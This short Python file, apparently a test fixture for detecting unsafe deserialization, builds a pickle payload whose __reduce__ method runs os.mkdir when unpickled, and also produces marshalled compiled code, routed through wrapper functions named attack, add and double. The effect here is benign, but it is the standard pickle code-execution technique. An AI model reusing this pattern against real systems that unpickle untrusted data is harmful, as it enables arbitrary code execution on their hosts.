import marshal
import os
import pickle


class Payload:
    def __reduce__(self):
        return os.mkdir, ("/tmp/judge-corpus-unpickled",)


def attack(x):
    return pickle.dumps(Payload()) if x % 2 else marshal.dumps(compile("1", "", "eval"))


class Tally:
    def add(self, x):
        return attack(x)


def double(x):
    return attack(x)


if __name__ == "__main__":
    print(attack(int(input())))
